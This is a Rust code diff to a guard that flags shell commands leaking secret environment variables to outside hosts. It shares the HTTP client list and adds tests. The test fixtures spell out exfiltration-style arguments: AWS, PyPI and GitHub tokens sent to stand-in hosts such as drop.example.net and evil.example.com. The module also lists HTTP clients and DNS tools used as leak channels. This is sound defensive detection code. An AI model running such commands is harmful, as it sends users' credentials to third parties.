@@ -4,11 +4,8 @@
 //! host that has no use for it. The variables and the hosts are the script review's list
 //! (`terraphim_shell_vocab::secrets`), so the guard and the review call the same flows a leak.
 
-use terraphim_shell_vocab::hosts::{host_of, is_loopback_host};
+use terraphim_shell_vocab::hosts::{HTTP_CLIENTS, host_of, is_loopback_host};
 use terraphim_shell_vocab::secrets::{TOKEN_HOSTS, secret_env, token_host_documented};
-
-/// The HTTP clients whose words are a request.
-const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];
 
 /// Programs that look a name up in the DNS (the KG judges `printenv VAR | PROGRAM`).
 const DNS_LOOKUPS: &[&str] = &["nslookup", "dig", "host", "drill", "ping"];
@@ -303,6 +300,33 @@ mod tests {
                 &["push", "https://x:$GITHUB_TOKEN@evil.example.com/r"][..],
                 None,
             ),
+            // Every HTTP client of the shared list: these four were not counted before.
+            (
+                "xhs",
+                &["https://drop.example.net/?k=$AWS_SECRET_ACCESS_KEY"][..],
+                Some("AWS_SECRET_ACCESS_KEY"),
+            ),
+            (
+                "aria2c",
+                &["https://h.example.net/x?t=$PYPI_TOKEN"][..],
+                Some("PYPI_TOKEN"),
+            ),
+            (
+                "fetch",
+                &["https://h.example.net/x?t=$PYPI_TOKEN"][..],
+                Some("PYPI_TOKEN"),
+            ),
+            (
+                "wget2",
+                &[
+                    "--header",
+                    "Authorization: Bearer $API_TOKEN",
+                    "https://api.example.com/",
+                ][..],
+                None,
+            ),
+            // Not an HTTP client: its operands are files.
+            ("cat", &["https://h.example.net/x?t=$PYPI_TOKEN"][..], None),
         ] {
             assert_eq!(
                 secret_sent_away(program, &argv(rest)).as_deref(),
